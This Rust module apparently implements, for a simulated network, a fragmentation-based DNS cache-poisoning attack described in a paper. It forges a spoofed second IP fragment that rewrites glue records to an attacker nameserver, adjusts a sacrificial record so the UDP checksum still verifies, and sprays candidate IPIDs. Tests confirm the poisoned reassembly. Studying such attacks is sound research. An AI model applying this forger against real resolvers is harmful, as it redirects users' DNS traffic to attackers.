//! Forging the spoofed second fragment (paper §III-2 and §III-3).
//!
//! Input: the *observed* DNS response bytes (the attacker queries the
//! nameserver itself — the authority/additional tail is stable across
//! queries, only the rotating answer records differ and those live in the
//! first fragment) and the layout of its records. [`forge_tail`] walks the
//! bytes for that layout; the pipeline keeps the layout from the checked
//! walk that accepted the reply, and forges from it without walking or
//! decoding a name again. The forger:
//!
//! 1. computes where the response fragments at the forced MTU;
//! 2. rewrites every glue A address that falls inside the second fragment
//!    to the attacker's nameserver address — except one sacrificial glue
//!    record whose RDATA becomes the checksum slack;
//! 3. fixes the ones'-complement sum so the UDP checksum (in fragment 1,
//!    which the attacker cannot touch) still verifies after reassembly;
//! 4. emits one spoofed fragment per candidate IPID.

use core::fmt;
use std::net::Ipv4Addr;

use bytes::{Bytes, BytesMut};
use netsim::ipv4::{Ipv4Packet, IPV4_HEADER_LEN, PROTO_UDP};
use netsim::udp::UDP_HEADER_LEN;

use crate::checksum_fix::{fix_fragment_sum, FixError};
use crate::wire_walk::{walk_records, RecordSpan};

/// Errors from fragment forging.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ForgeError {
    /// The observed response would not fragment at this MTU.
    ResponseTooSmall {
        /// Response wire length (IP).
        len: usize,
        /// The MTU in force.
        mtu: u16,
    },
    /// No glue records fall inside the second fragment.
    NoGlueInTail,
    /// No aligned slack word available for the checksum fix.
    NoSlackCandidate,
    /// The response failed to parse.
    Malformed,
    /// Checksum fix failed.
    Fix(FixError),
}

impl fmt::Display for ForgeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ForgeError::ResponseTooSmall { len, mtu } => {
                write!(f, "response of {len} bytes does not fragment at mtu {mtu}")
            }
            ForgeError::NoGlueInTail => write!(f, "no glue records in the second fragment"),
            ForgeError::NoSlackCandidate => write!(f, "no aligned slack word available"),
            ForgeError::Malformed => write!(f, "observed response failed to parse"),
            ForgeError::Fix(e) => write!(f, "checksum fix failed: {e}"),
        }
    }
}

impl std::error::Error for ForgeError {}

impl From<FixError> for ForgeError {
    fn from(e: FixError) -> Self {
        ForgeError::Fix(e)
    }
}

/// The product of forging: the spoofed tail fragment(s) for one IPID plus
/// bookkeeping about what was poisoned.
#[derive(Debug, Clone)]
pub struct ForgedTail {
    /// IP-payload offset (bytes) where the second fragment starts.
    pub split: usize,
    /// The spoofed second-fragment payload (shared across IPIDs).
    pub payload: Bytes,
    /// Names of the glue records redirected to the attacker.
    pub poisoned_names: Vec<dns::name::Name>,
    /// The glue record sacrificed as checksum slack, if any.
    pub slack_name: Option<dns::name::Name>,
}

impl ForgedTail {
    /// Materialises the spoofed fragment for one candidate IPID, spoofing
    /// `nameserver` as the source towards `resolver`.
    pub fn fragment(&self, nameserver: Ipv4Addr, resolver: Ipv4Addr, ipid: u16) -> Ipv4Packet {
        spoofed_fragment(self.split, &self.payload, nameserver, resolver, ipid)
    }

    /// Materialises fragments for a whole IPID window.
    pub fn fragments(
        &self,
        nameserver: Ipv4Addr,
        resolver: Ipv4Addr,
        ipids: &[u16],
    ) -> Vec<Ipv4Packet> {
        ipids.iter().map(|&id| self.fragment(nameserver, resolver, id)).collect()
    }
}

/// Number of IP-payload bytes carried by the first fragment at `mtu`.
pub fn first_fragment_payload(mtu: u16) -> usize {
    (usize::from(mtu) - IPV4_HEADER_LEN) & !7
}

/// The spoofed fragment carrying `payload` at IP-payload offset `split`.
fn spoofed_fragment(
    split: usize,
    payload: &Bytes,
    nameserver: Ipv4Addr,
    resolver: Ipv4Addr,
    ipid: u16,
) -> Ipv4Packet {
    Ipv4Packet {
        src: nameserver,
        dst: resolver,
        id: ipid,
        ttl: 64,
        protocol: PROTO_UDP,
        dont_fragment: false,
        more_fragments: false,
        frag_offset: (split / 8) as u16,
        payload: payload.clone(),
    }
}

/// Where a response of `dns_len` bytes splits at `mtu`, in IP-payload
/// bytes, if it fragments at all.
fn split_at(dns_len: usize, mtu: u16) -> Result<usize, ForgeError> {
    let udp_len = UDP_HEADER_LEN + dns_len;
    let split = first_fragment_payload(mtu);
    if udp_len <= split {
        return Err(ForgeError::ResponseTooSmall { len: udp_len + IPV4_HEADER_LEN, mtu });
    }
    Ok(split)
}

/// Forges the spoofed tail from an observed response.
///
/// `observed_dns` is the DNS message payload the attacker received from its
/// own probe query; `mtu` the MTU it forced towards the resolver;
/// `attacker_ns` the address every reachable glue record is rewritten to.
///
/// # Errors
///
/// See [`ForgeError`].
pub fn forge_tail(
    observed_dns: &[u8],
    mtu: u16,
    attacker_ns: Ipv4Addr,
) -> Result<ForgedTail, ForgeError> {
    split_at(observed_dns.len(), mtu)?;
    let spans = walk_records(observed_dns).map_err(|_| ForgeError::Malformed)?;
    let tail = SpanTail::forge(observed_dns, &spans, mtu, attacker_ns)?;
    let name = |span: &RecordSpan| span.name(observed_dns).map_err(|_| ForgeError::Malformed);
    let mut poisoned_names = Vec::with_capacity(tail.poisoned().count());
    for span in tail.poisoned() {
        poisoned_names.push(name(span)?);
    }
    Ok(ForgedTail {
        split: tail.split,
        poisoned_names,
        slack_name: Some(name(tail.slack)?),
        payload: tail.payload,
    })
}

/// A forged tail that still refers to the record spans it was forged
/// from: [`forge_tail`] before any owner name is decoded.
#[derive(Debug)]
pub(crate) struct SpanTail<'s> {
    /// IP-payload offset where the second fragment starts.
    split: usize,
    /// The spoofed second-fragment payload.
    payload: Bytes,
    /// The glue records inside the second fragment, in wire order.
    targets: Targets<'s>,
    /// The target sacrificed as checksum slack.
    slack: &'s RecordSpan,
}

/// The glue A records of `spans` whose RDATA lies inside the second
/// fragment, which starts at DNS offset `tail_start` of a `dns_len`-byte
/// response.
#[derive(Debug, Clone, Copy)]
struct Targets<'s> {
    spans: &'s [RecordSpan],
    tail_start: usize,
    dns_len: usize,
}

impl<'s> Targets<'s> {
    fn iter(self) -> impl DoubleEndedIterator<Item = &'s RecordSpan> {
        self.spans.iter().filter(move |s| {
            s.is_glue()
                && s.rdata_len == 4
                && s.rdata_offset >= self.tail_start
                && s.rdata_offset + s.rdata_len <= self.dns_len
        })
    }

    /// The targets other than `slack`, in wire order.
    fn except(self, slack: &RecordSpan) -> impl Iterator<Item = &'s RecordSpan> {
        let slack_at = slack.rdata_offset;
        self.iter().filter(move |s| s.rdata_offset != slack_at)
    }
}

impl<'s> SpanTail<'s> {
    /// Forges the spoofed tail of `observed_dns` from `spans`, the layout
    /// [`walk_records`] reports for it.
    pub(crate) fn forge(
        observed_dns: &[u8],
        spans: &'s [RecordSpan],
        mtu: u16,
        attacker_ns: Ipv4Addr,
    ) -> Result<Self, ForgeError> {
        let split = split_at(observed_dns.len(), mtu)?;
        // DNS byte offset d sits at IP-payload offset UDP_HEADER_LEN + d,
        // so the second fragment starts at DNS offset `tail_start`.
        let tail_start = split - UDP_HEADER_LEN;
        let targets = Targets { spans, tail_start, dns_len: observed_dns.len() };
        if targets.iter().next().is_none() {
            return Err(ForgeError::NoGlueInTail);
        }
        // Slack: the last glue record whose RDATA starts at an even
        // IP-payload offset (fragment sums pair bytes from the even split
        // boundary).
        let slack =
            targets.iter().rev().find(|s| (s.rdata_offset + UDP_HEADER_LEN).is_multiple_of(2));
        let Some(slack) = slack else {
            return Err(ForgeError::NoSlackCandidate);
        };
        // Work in fragment-2 coordinates.
        let original_tail = &observed_dns[tail_start..];
        let mut modified_tail = BytesMut::with_capacity(original_tail.len());
        modified_tail.extend_from_slice(original_tail);
        for span in targets.except(slack) {
            let at = span.rdata_offset - tail_start;
            modified_tail[at..at + 4].copy_from_slice(&attacker_ns.octets());
        }
        // Zero the slack address; the fix writes the equalising word into
        // its first two bytes (the remaining two stay zero).
        let slack_in_tail = slack.rdata_offset - tail_start;
        modified_tail[slack_in_tail..slack_in_tail + 4].fill(0);
        fix_fragment_sum(original_tail, &mut modified_tail, slack_in_tail)?;
        Ok(SpanTail { split, payload: modified_tail.freeze(), targets, slack })
    }

    /// The glue records redirected to the attacker, in wire order: every
    /// target but the slack.
    pub(crate) fn poisoned(&self) -> impl Iterator<Item = &'s RecordSpan> {
        self.targets.except(self.slack)
    }

    /// Materialises the spoofed fragment for one candidate IPID, as
    /// [`ForgedTail::fragment`] does.
    pub(crate) fn fragment(
        &self,
        nameserver: Ipv4Addr,
        resolver: Ipv4Addr,
        ipid: u16,
    ) -> Ipv4Packet {
        spoofed_fragment(self.split, &self.payload, nameserver, resolver, ipid)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::checksum_fix::sums_match;
    use dns::prelude::*;
    use netsim::frag::{fragment, DefragCache, DefragConfig};
    use netsim::time::SimTime;
    use netsim::udp::UdpDatagram;
    use rand::rngs::SmallRng;
    use rand::SeedableRng;

    const NS: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 1);
    const RESOLVER: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 53);
    const ATTACKER_NS: Ipv4Addr = Ipv4Addr::new(66, 66, 66, 66);

    fn observed_response() -> Vec<u8> {
        let servers: Vec<Ipv4Addr> = (1..=8).map(|i| Ipv4Addr::new(192, 0, 2, i)).collect();
        let zone = pool_zone(servers, 23, NS);
        let mut srv = AuthServer::new(vec![zone]);
        let q = Message::query(0x999, "pool.ntp.org".parse().unwrap(), RecordType::A, false);
        srv.answer(&q, &mut SmallRng::seed_from_u64(3)).encode().unwrap().to_vec()
    }

    #[test]
    fn forged_tail_poisons_most_glue() {
        let dns_bytes = observed_response();
        let tail = forge_tail(&dns_bytes, 548, ATTACKER_NS).unwrap();
        assert!(tail.poisoned_names.len() >= 20, "poisoned {}", tail.poisoned_names.len());
        assert!(tail.slack_name.is_some());
        assert_eq!(tail.split % 8, 0);
    }

    #[test]
    fn forged_sum_matches_original_tail() {
        let dns_bytes = observed_response();
        let tail = forge_tail(&dns_bytes, 548, ATTACKER_NS).unwrap();
        let original_tail = &dns_bytes[tail.split - UDP_HEADER_LEN..];
        assert!(sums_match(original_tail, &tail.payload));
        assert_eq!(original_tail.len(), tail.payload.len(), "length must be unchanged");
    }

    /// End-to-end reassembly check: plant the spoofed fragment, deliver the
    /// real first fragment, and verify the reassembled datagram (a) passes
    /// the UDP checksum and (b) decodes to a response whose glue points at
    /// the attacker.
    #[test]
    fn reassembled_with_real_first_fragment_verifies_and_is_poisoned() {
        let dns_bytes = observed_response();
        // The real response as the NS would send it to the RESOLVER (new
        // TXID and rotation — answer section differs, tail identical).
        let servers: Vec<Ipv4Addr> = (1..=8).map(|i| Ipv4Addr::new(192, 0, 2, i)).collect();
        let zone = pool_zone(servers, 23, NS);
        let mut srv = AuthServer::new(vec![zone]);
        let victim_query =
            Message::query(0x1234, "pool.ntp.org".parse().unwrap(), RecordType::A, false);
        let victim_resp = srv.answer(&victim_query, &mut SmallRng::seed_from_u64(77));
        let victim_dns = victim_resp.encode().unwrap();
        let udp = UdpDatagram::new(53, 45_000, victim_dns.clone()).encode(NS, RESOLVER).unwrap();
        let full = Ipv4Packet::udp(NS, RESOLVER, 0x0F00, udp);
        let frags = fragment(full.clone(), 548).unwrap();
        assert_eq!(frags.len(), 2);

        // Attacker forges from its own (different) observation.
        let tail = forge_tail(&dns_bytes, 548, ATTACKER_NS).unwrap();
        let spoofed = tail.fragment(NS, RESOLVER, 0x0F00);

        // Resolver-side reassembly: spoofed fragment is planted first.
        let mut cache = DefragCache::new(DefragConfig::default());
        assert!(cache.insert(SimTime::ZERO, spoofed.clone()).is_none());
        let reassembled = cache
            .insert(SimTime::from_nanos(1), frags[0].clone())
            .expect("first real fragment completes with planted tail");

        // (a) UDP checksum verifies despite the tampering.
        let dgram = UdpDatagram::decode(&reassembled.payload, NS, RESOLVER)
            .expect("checksum must verify after the fix-up");
        // (b) The DNS payload decodes; glue now points at the attacker.
        let msg = Message::decode(&dgram.payload).expect("DNS decodes");
        assert_eq!(msg.header.id, 0x1234, "victim TXID preserved (fragment 1)");
        let glue_addrs: Vec<Ipv4Addr> = msg.additionals.iter().filter_map(|r| r.as_a()).collect();
        let poisoned = glue_addrs.iter().filter(|a| **a == ATTACKER_NS).count();
        assert!(poisoned >= 20, "poisoned glue count {poisoned}");
        // The answer section (fragment 1) is the *real* rotation.
        assert_eq!(msg.answers.len(), 4);
        assert!(msg
            .answers
            .iter()
            .all(|r| r.as_a().map(|a| a.octets()[0] == 192).unwrap_or(false)));
    }

    #[test]
    fn wrong_ipid_fails_to_reassemble() {
        let dns_bytes = observed_response();
        let servers: Vec<Ipv4Addr> = (1..=8).map(|i| Ipv4Addr::new(192, 0, 2, i)).collect();
        let zone = pool_zone(servers, 23, NS);
        let mut srv = AuthServer::new(vec![zone]);
        let victim_query = Message::query(5, "pool.ntp.org".parse().unwrap(), RecordType::A, false);
        let victim_dns =
            srv.answer(&victim_query, &mut SmallRng::seed_from_u64(7)).encode().unwrap();
        let udp = UdpDatagram::new(53, 45000, victim_dns).encode(NS, RESOLVER).unwrap();
        let full = Ipv4Packet::udp(NS, RESOLVER, 0x0F00, udp);
        let frags = fragment(full.clone(), 548).unwrap();

        let tail = forge_tail(&dns_bytes, 548, ATTACKER_NS).unwrap();
        let spoofed = tail.fragment(NS, RESOLVER, 0x0E00); // mispredicted
        let mut cache = DefragCache::new(DefragConfig::default());
        cache.insert(SimTime::ZERO, spoofed.clone());
        assert!(cache.insert(SimTime::from_nanos(1), frags[0].clone()).is_none());
        // The real second fragment completes it cleanly instead.
        let reassembled = cache.insert(SimTime::from_nanos(2), frags[1].clone()).unwrap();
        let dgram = UdpDatagram::decode(&reassembled.payload, NS, RESOLVER).unwrap();
        let msg = Message::decode(&dgram.payload).unwrap();
        assert!(msg.additionals.iter().filter_map(|r| r.as_a()).all(|a| a != ATTACKER_NS));
    }

    #[test]
    fn small_response_cannot_be_attacked() {
        let dns_bytes = observed_response();
        let err = forge_tail(&dns_bytes[..100.min(dns_bytes.len())], 548, ATTACKER_NS);
        assert!(err.is_err());
    }

    #[test]
    fn window_of_fragments_materialises() {
        let dns_bytes = observed_response();
        let tail = forge_tail(&dns_bytes, 548, ATTACKER_NS).unwrap();
        let ipids: Vec<u16> = (0x100..0x110).collect();
        let frags = tail.fragments(NS, RESOLVER, &ipids);
        assert_eq!(frags.len(), 16);
        assert!(frags.iter().all(|f| f.src == NS && f.dst == RESOLVER && f.is_fragment()));
    }
}
